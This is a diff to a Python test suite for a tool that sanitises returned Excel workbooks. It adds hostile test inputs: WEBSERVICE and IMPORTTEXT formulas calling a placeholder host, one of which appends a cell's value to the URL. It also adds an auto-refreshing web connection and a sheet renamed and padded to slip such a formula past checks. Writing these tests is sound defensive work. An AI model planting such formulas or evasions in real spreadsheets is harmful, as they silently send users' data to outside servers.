@@ -17,9 +17,11 @@ from openpyxl.comments import Comment
 from openpyxl.workbook import Workbook
 from openpyxl.workbook.defined_name import DefinedName
 
-from statsbidrag import answer, live, store
+from statsbidrag import answer, guard, live, store
 from statsbidrag.archive import packed
+from statsbidrag.bounds import BOUNDS
 from statsbidrag.model import Finding, InputError, Rulebook, Severity
+from statsbidrag.parts import with_attribute, without_attribute
 from tests import example, filling, planted
 from tests.conftest import Way, planned
 from tests.planted import BOARD, EQUAL, good
@@ -401,6 +403,12 @@ ASKING = (
     "[1]Blad1!A1",
     "SUM('[1]Blad 1'!A1:A9)",
     "[1]!Namn",
+    '\'a"b\'!A1&WEBSERVICE("http://x.invalid/?"&B2)',
+    'T[a"]&WEBSERVICE("http://x.invalid/")',
+    "T['@a]&WEBSERVICE(\"http://x.invalid/\")&T['@b]",
+    'IMPORTTEXT("http://x.invalid/")',
+    'LET(f,_xlfn.WEBSERVICE,f("http://x.invalid/"))',
+    "MAP(A1:A2,_xleta.WEBSERVICE)",
     "'C:\\mapp\\[bok.xlsx]Blad'!A1",
     "'\\\\server\\x\\bok.xlsx'!Namn",
     'CUBEVALUE("Koppling","[a]")',
@@ -417,6 +425,8 @@ QUIET = (
     '"cmd|calc [1]Blad!A1 WEBSERVICE(1)"',
     "MYCALL(1)+CALLS(2)+[0]!Makro",
     'IF(A1="|","a","b")',
+    "Kostnader[Andel '[%']]+Kostnader[[#Totals],[Belopp | kr]]",
+    "'O''Brien'!A1&\"'\"",
 )
 
 
@@ -542,6 +552,52 @@ def test_parts_that_run_or_fetch_are_left_out_or_lead_nowhere() -> None:
     opened(answer.annotate(content, []))
 
 
+def test_a_part_is_known_by_what_leads_to_it_whatever_it_is_called() -> None:
+    """A list of connections by another name, and a sheet whose part is no .xml and begins with a page of blanks."""
+    connection = (
+        '<connections><connection id="1" refreshOnLoad="1"><webPr url="http://x.invalid/"/></connection></connections>'
+    )
+    rels = "xl/_rels/workbook.xml.rels"
+    asking = changed(
+        put_part("xl/forb.xml", connection, "application/c"),
+        relate(rels, f'Id="rId92" Type="{R}/connections" Target="forb.xml"'),
+    )
+    assert b"x.invalid" not in b"".join(parts(answer.annotate(asking, [])).values())
+
+    def renamed(there: dict[str, bytes]) -> None:
+        there["xl/worksheets/sheet3.dat"] = b" " * 300 + re.sub(rb"^<\?xml.*?\?>", b"", there.pop(COSTS))
+        there["xl/worksheets/_rels/sheet3.dat.rels"] = there.pop("xl/worksheets/_rels/sheet3.xml.rels")
+        there[rels] = there[rels].replace(b"worksheets/sheet3.xml", b"worksheets/sheet3.dat")
+        there[TYPES] = there[TYPES].replace(b"/xl/worksheets/sheet3.xml", b"/xl/worksheets/sheet3.dat")
+
+    hidden = changed(in_cell('WEBSERVICE("http://x.invalid/")'), renamed)
+    assert b"WEBSERVICE" in parts(hidden)["xl/worksheets/sheet3.dat"]
+    assert b"WEBSERVICE" not in parts(answer.annotate(hidden, []))["xl/worksheets/sheet3.dat"]
+    number = "".join(f"&#{ord(sign)};" for sign in NUMBER.replace("-", ""))
+    row = f'<row r="900"><c r="I900" t="inlineStr"><is><t>{number}</t></is></c></row></sheetData>'
+    looked_through = guard.workbook(changed(put(COSTS, "</sheetData>", row), renamed), BOUNDS)
+    assert [place.ref for place in looked_through.personal_numbers] == ["I900"]
+
+
+@pytest.mark.parametrize("name", ["xl\\workbook.xml", "xl/_rels/workbook.xml.RELS", "XL/workbook.xml"])
+def test_a_workbook_whose_parts_have_unusual_names_gets_no_answer(name: str) -> None:
+    """What lies in a part that is taken for another one may be missed."""
+
+    def change(there: dict[str, bytes]) -> None:
+        there[name] = b"<Relationships/>"
+
+    with pytest.raises(ValueError, match="has an unusual name"):
+        answer.annotate(changed(change), [])
+
+
+def test_an_attribute_is_not_looked_for_in_the_value_of_another() -> None:
+    tag = """<connection name=' refreshOnLoad="1"' refreshOnLoad="1" type="4">"""
+    assert without_attribute(tag, "refreshOnLoad") == """<connection name=' refreshOnLoad="1"' type="4">"""
+    wanted = """<webPr post=' url="x"' url="">"""
+    assert with_attribute("""<webPr post=' url="x"' url="http://x.invalid/">""", "url", "") == wanted
+    assert with_attribute("<a/>", "b", "1") == '<a b="1"/>'
+
+
 # -- personal numbers ------------------------------------------------------------------------------------------------
 
 
@@ -606,6 +662,22 @@ def test_an_answer_that_comes_in_unchanged_is_no_return_and_a_corrected_one_is(w
     assert {row["board_id"]: row for row in alone.tables["board"]} == {
         row["board_id"]: row for row in first.tables["board"]
     }
+
+
+def test_a_sheet_that_was_shown_again_makes_another_return_of_the_answer(way: Way, decisions: Rulebook) -> None:
+    """What a return was asked about stands not only in its cells: what has been done about it must be seen."""
+
+    def hide(book: Any) -> None:
+        book.create_sheet("Eget")["A1"] = "x"
+        book["Eget"].sheet_state = "hidden"
+
+    sent = filling.edited(good(), hide)
+    (returned,) = way.take_in({"a.xlsx": sent}, decisions)
+    told = [one for one in way.judge([returned], decisions, planned(EQUAL)) if one.file == "a.xlsx"]
+    back = answer.of_return(sent, told, returned)
+    shown = filling.edited(back, lambda book: book["Eget"].__setattr__("sheet_state", "visible"))
+    kinds = {one.file: one.kind for one in way.take_in({"svar.xlsx": back, "visad.xlsx": shown}, decisions)}
+    assert kinds == {"svar.xlsx": "skipped", "visad.xlsx": "xlsx"}
 
 
 def test_a_fingerprint_of_cells_has_no_digits_and_sees_every_change(way: Way, decisions: Rulebook) -> None:
